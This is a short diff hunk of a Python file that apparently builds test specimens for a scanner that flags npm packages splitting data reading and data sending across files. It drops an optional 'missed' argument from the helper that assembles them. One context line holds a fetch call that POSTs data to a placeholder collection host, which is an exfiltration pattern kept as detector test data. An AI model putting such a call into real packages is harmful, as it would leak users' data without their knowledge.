@@ -8,10 +8,10 @@ _POST = "fetch('https://collect.invalid/in', { method: 'POST', body: data })"
 _HALF = (COMMAND[:17], COMMAND[17:])
 
 
-def _two(title: str, reader: str, sender: str, entry: str, *, missed: str = "", **more: str) -> Specimen:
+def _two(title: str, reader: str, sender: str, entry: str, **more: str) -> Specimen:
     """Return a specimen of three files: one reads, one sends, and the entry brings them together."""
     files = {"lib/read.js": reader, "lib/send.js": sender, **{f"lib/{name}.js": text for name, text in more.items()}}
-    return npm("flows across files", title, entry, files, missed=missed)
+    return npm("flows across files", title, entry, files)
 
 
 SPECIMENS: tuple[Specimen, ...] = (
